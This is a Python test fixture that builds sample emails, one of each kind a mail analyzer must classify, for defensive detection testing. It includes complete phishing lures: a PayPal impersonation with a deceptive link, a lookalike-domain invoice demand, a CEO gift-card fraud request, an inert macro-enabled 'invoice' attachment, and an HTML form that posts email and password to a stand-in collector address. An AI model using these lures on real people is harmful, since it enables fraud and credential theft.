"""Messages the mail tests build themselves: one of each kind the analyzer must tell apart.

Every builder returns the bytes of a complete RFC 5322 message made with the stdlib, so the
tests never depend on third-party samples (the ../shared corpus tests are separate).
"""

from __future__ import annotations

import hashlib
import io
import zipfile
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime

ORG = "corp.example"
WHEN = datetime(2026, 11, 2, 9, 30, tzinfo=UTC)


def _msg(
    sender: str,
    subject: str,
    text: str,
    *,
    to: str = f"j.doe@{ORG}",
    html: str | None = None,
    auth: str | None = None,
    reply_to: str | None = None,
    return_path: str | None = None,
    message_id: str | None = None,
) -> EmailMessage:
    msg = EmailMessage()
    if return_path:
        msg["Return-Path"] = f"<{return_path}>"
    if auth:
        msg["Authentication-Results"] = f"mx.{ORG}; {auth}"
    msg["From"] = sender
    msg["To"] = to
    if reply_to:
        msg["Reply-To"] = reply_to
    msg["Subject"] = subject
    msg["Date"] = format_datetime(WHEN)
    digest = hashlib.sha256(f"{sender}|{subject}".encode()).hexdigest()[:16]
    msg["Message-ID"] = message_id or f"<{digest}@test.example>"
    msg.set_content(text)
    if html is not None:
        msg.add_alternative(html, subtype="html")
    return msg


def internal() -> bytes:
    """A colleague's ordinary note, authenticated."""
    return _msg(
        f"Sam Patel <s.patel@{ORG}>",
        "Minutes of the Tuesday meeting",
        "Hi Jane,\n\nThe minutes are on the wiki. Next meeting on the 12th.\n\nSam\n",
        auth=f"spf=pass smtp.mailfrom={ORG}; dkim=pass header.d={ORG}; dmarc=pass",
    ).as_bytes()


def newsletter() -> bytes:
    """A real company's newsletter: tracking links, a bounce domain, nothing asked."""
    html = (
        "<html><body><h1>This week at Northwind</h1><p>Our autumn catalogue is out.</p>"
        '<a href="https://click.mailer.northwind.example/c/1">Read the catalogue</a> '
        '<a href="https://www.northwind.example/unsubscribe">Unsubscribe</a></body></html>'
    )
    return _msg(
        "Northwind News <news@northwind.example>",
        "This week at Northwind",
        "Our autumn catalogue is out: https://www.northwind.example/catalogue\n",
        html=html,
        auth="spf=pass smtp.mailfrom=bounce.northwind.example; "
        "dkim=pass header.d=northwind.example",
        return_path="bounces@bounce.northwind.example",
    ).as_bytes()


def brand_phish() -> bytes:
    """PayPal by name only: credential request, a link that lies about where it goes."""
    html = (
        "<html><body><p>We noticed unusual activity. Your account has been limited.</p>"
        '<p><a href="http://paypa1-secure-login.top/verify">https://www.paypal.com/signin</a>'
        "</p><p>Please verify your account within 24 hours.</p></body></html>"
    )
    return _msg(
        "PayPal Service <service@mail-notice.top>",
        "Your account has been limited",
        "We noticed unusual activity. Verify your account: http://paypa1-secure-login.top/verify",
        html=html,
        auth="spf=softfail smtp.mailfrom=mail-notice.top; dkim=none; dmarc=fail",
    ).as_bytes()


def lookalike_sender() -> bytes:
    """Our own domain with a digit for a letter, asking for a payment."""
    return _msg(
        "Accounts Payable <billing@corp-examp1e.com>",
        "Invoice 2024-1187 overdue",
        "Please settle the outstanding invoice by wire transfer today.\n",
        auth="spf=pass smtp.mailfrom=corp-examp1e.com; dkim=none; dmarc=none",
    ).as_bytes()


def bec() -> bytes:
    """The CEO's name from a free-mail address, answers diverted, gift cards wanted."""
    return _msg(
        "Dana Whitfield <dana.whitfield.ceo@gmail.com>",
        "Quick favor",
        "Are you available? I need you to purchase some gift cards for a client today. "
        "Keep this confidential.\n",
        reply_to="dana.w.office@outlook.com",
        auth="spf=pass smtp.mailfrom=gmail.com; dkim=pass header.d=gmail.com; dmarc=pass",
    ).as_bytes()


def macro_attachment() -> bytes:
    """An "invoice" that is a macro-enabled Word document."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as doc:
        doc.writestr("[Content_Types].xml", "<Types/>")
        doc.writestr("word/document.xml", "<w:document/>")
        doc.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600)
    msg = _msg(
        "Supplier Billing <billing@northwind-invoices.example>",
        "Invoice attached",
        "Please find the invoice attached. Enable editing to view it.\n",
        auth="spf=none; dkim=none; dmarc=none",
    )
    msg.add_attachment(
        buffer.getvalue(),
        maintype="application",
        subtype="vnd.ms-word.document.macroEnabled.12",
        filename="Invoice_1187.docm",
    )
    return msg.as_bytes()


def password_form() -> bytes:
    """A mailbox-quota scare with the password form right in the mail."""
    html = (
        "<html><body><p>Your mailbox is full. Sign in to keep your messages.</p>"
        '<form action="http://203.0.113.9/collect.php" method="post">'
        '<input name="email"><input type="password" name="pw"><button>Sign in</button>'
        "</form></body></html>"
    )
    return _msg(
        "Mail Administrator <admin@mailbox-quota.example>",
        "Mailbox quota exceeded",
        "",
        html=html,
    ).as_bytes()


KINDS = {
    "internal": (internal, "clean"),
    "newsletter": (newsletter, "clean"),
    "brand_phish": (brand_phish, "phishing"),
    "lookalike_sender": (lookalike_sender, "phishing"),
    "bec": (bec, "suspicious"),
    "macro_attachment": (macro_attachment, "phishing"),
    "password_form": (password_form, "phishing"),
}
"""kind -> (builder, the verdict the default policy with ORG protected must give)."""
